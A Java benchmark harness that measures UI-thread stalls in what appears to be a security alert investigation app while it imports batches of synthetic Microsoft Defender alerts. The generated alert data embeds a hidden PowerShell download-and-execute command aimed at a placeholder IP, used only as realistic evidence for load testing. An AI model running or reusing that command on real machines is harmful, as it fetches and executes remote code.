package dupin.ui;

import dupin.service.CaseSession;
import dupin.service.Console;
import dupin.service.Places;
import dupin.service.Progress;
import dupin.service.Sample;
import dupin.ui.fx.Theme;
import java.io.IOException;
import java.lang.management.ManagementFactory;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.List;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.Executors;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicLong;
import javafx.application.Platform;
import javafx.scene.Scene;
import javafx.stage.Stage;

/// Measures how long the screen's thread keeps an event waiting while a thousand alerts are investigated under an open
/// window: a task that is sent every two milliseconds notes how long it waited, and how much of that time the thread was at
/// work itself, which a busy machine does not change. Beside it a thread with nothing to do is asked at the same moments: what
/// that one waits, no program on this machine is spared. Three times a thousand alerts, in the window as it starts: with the
/// first sample case, or without it (`empty`), when all code is cold. Run by hand; it asserts nothing.
///
/// The headless platform copies each frame to its window point by point on the screen's thread, which a real window does not;
/// to leave that out, run it under a display. With `target/dupin` as folder, its `dupin.aot` and `../test-classes` behind
/// its jar on the class path it measures the distribution.
///
/// Arguments: `[empty] [workers]`
public final class StallMeasure {
    private static final int ALERTS = 1_000;

    private StallMeasure() {}

    public static void main(String[] args) throws Exception {
        Path data = Files.createTempDirectory("stall");
        var started = new CountDownLatch(1);
        Platform.startup(started::countDown);
        started.await();
        var words = new ArrayList<>(List.of(args));
        boolean empty = words.remove("empty");
        int workers =
                words.isEmpty()
                        ? Math.max(1, Runtime.getRuntime().availableProcessors() - 1)
                        : Integer.parseInt(words.getFirst());
        var console = new Console(data, OpenSample.CLOCK, workers);
        CaseSession session = console.open(data.resolve("stall.dupin"), Progress.NONE);
        var screen = new AtomicLong();
        var shown = new CountDownLatch(1);
        Platform.runLater(() -> {
            screen.set(Thread.currentThread().threadId());
            var workbench = new Workbench(places(data), console);
            var scene = new Scene(workbench.root(), 1440, 900);
            Theme.DARK.applyTo(scene);
            var stage = new Stage();
            stage.setScene(scene);
            stage.show();
            workbench.show(session);
            shown.countDown();
        });
        shown.await();
        if (!empty) {
            Sample first = Sample.all(places(data).samples()).getFirst();
            print("start", beat(screen.get(), () -> bring(session, first.files())));
        }
        print("idle", beat(screen.get(), () -> Thread.sleep(3_000)));
        for (int round = 0; round < 3; round++) {
            Path export = data.resolve("alerts-" + round + ".ndjson");
            write(export, round * ALERTS);
            long begin = System.nanoTime();
            List<Turn> busy = beat(screen.get(), () -> bring(session, List.of(export)));
            System.out.printf(
                    "%d alerts, %d investigations in the case, %.1f s%n",
                    session.desk().status().alerts(),
                    session.desk().investigations().size(),
                    (System.nanoTime() - begin) / 1e9);
            print("round " + (round + 1), busy);
        }
        session.close();
        System.exit(0);
    }

    private static Places places(Path data) {
        return new Places(Places.ofThisProcess().home(), data);
    }

    private static void bring(CaseSession session, List<Path> files) throws InterruptedException {
        session.imports().commit(session.imports().plan(files, Progress.NONE), "analyst", Progress.NONE);
        session.awaitIdle();
    }

    private interface Work {
        void run() throws Exception;
    }

    /// @param waited microseconds until the event had its turn
    /// @param worked microseconds of processor that the screen's thread took in the meantime
    /// @param idle microseconds that a thread with nothing else to do needed for its turn, asked at the same moment
    private record Turn(long waited, long worked, long idle) {}

    private static List<Turn> beat(long screen, Work work) throws Exception {
        var threads = ManagementFactory.getThreadMXBean();
        var turns = Collections.synchronizedList(new ArrayList<Turn>());
        var on = new AtomicBoolean(true);
        var bystander = Executors.newSingleThreadExecutor(Thread.ofPlatform().daemon().factory());
        Thread pulse =
                Thread.ofPlatform()
                        .daemon()
                        .start(() -> {
                            while (on.get()) {
                                var turn = new CountDownLatch(2);
                                var taken = new long[3];
                                long asked = System.nanoTime();
                                long before = threads.getThreadCpuTime(screen);
                                Platform.runLater(() -> {
                                    taken[1] = threads.getThreadCpuTime(screen) - before;
                                    taken[0] = System.nanoTime() - asked;
                                    turn.countDown();
                                });
                                bystander.execute(() -> {
                                    taken[2] = System.nanoTime() - asked;
                                    turn.countDown();
                                });
                                try {
                                    turn.await();
                                    turns.add(new Turn(taken[0] / 1_000, taken[1] / 1_000, taken[2] / 1_000));
                                    Thread.sleep(2);
                                } catch (InterruptedException _) {
                                    return;
                                }
                            }
                        });
        work.run();
        on.set(false);
        pulse.join();
        bystander.shutdown();
        return List.copyOf(turns);
    }

    private static void print(String name, List<Turn> turns) {
        System.out.printf("%-8s turns %6d", name, turns.size());
        print("waited", turns.stream().mapToLong(Turn::waited).sorted().toArray());
        print("worked", turns.stream().mapToLong(Turn::worked).sorted().toArray());
        print("an idle thread waited", turns.stream().mapToLong(Turn::idle).sorted().toArray());
        System.out.println();
    }

    private static void print(String what, long[] sorted) {
        System.out.printf(
                ";  %s p50 %.1f p99 %.1f p99.9 %.1f max %.1f ms, %d over 50 ms",
                what,
                at(sorted, 0.5),
                at(sorted, 0.99),
                at(sorted, 0.999),
                at(sorted, 1),
                Arrays.stream(sorted).filter(t -> t > 50_000).count());
    }

    private static double at(long[] sorted, double share) {
        return sorted[(int) Math.min(sorted.length - 1L, Math.round(share * sorted.length))] / 1000.0;
    }

    private static void write(Path file, int first) throws IOException {
        var lines = new ArrayList<String>();
        Instant start = Instant.parse("2026-11-18T06:00:00Z");
        for (int i = first; i < first + ALERTS; i++) {
            int incident = i / 4;
            String host = "ws-%04d".formatted(incident);
            lines.add(
                    """
                    {"@odata.type":"#microsoft.graph.security.alert","id":"da%d","incidentId":"%d","title":"Suspicious script %d","severity":"medium","status":"new","category":"Execution","serviceSource":"microsoftDefenderForEndpoint","createdDateTime":"%s","firstActivityDateTime":"%s","evidence":[{"@odata.type":"#microsoft.graph.security.deviceEvidence","deviceDnsName":"%s","mdeDeviceId":"%040x","verdict":"suspicious"},{"@odata.type":"#microsoft.graph.security.processEvidence","processId":%d,"processCreationDateTime":"%s","processCommandLine":"powershell.exe -nop -w hidden -c iex (new-object net.webclient).downloadstring('http://198.51.100.%d/a')","mdeDeviceId":"%040x","imageFile":{"fileName":"powershell.exe","filePath":"C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0","sha256":"%064x"}},{"@odata.type":"#microsoft.graph.security.fileEvidence","mdeDeviceId":"%040x","fileDetails":{"fileName":"x%d.exe","filePath":"C:\\\\Users\\\\u\\\\AppData\\\\Local\\\\Temp","sha256":"%064x"}}]}\
                    """
                            .formatted(
                                    i,
                                    incident,
                                    i,
                                    start.plusSeconds(i * 30L),
                                    start.plusSeconds(i * 30L),
                                    host,
                                    incident + 1,
                                    4000 + i,
                                    start.plusSeconds(i * 30L),
                                    i % 250,
                                    incident + 1,
                                    77,
                                    incident + 1,
                                    i,
                                    1000 + i));
        }
        Files.write(file, lines);
    }
}
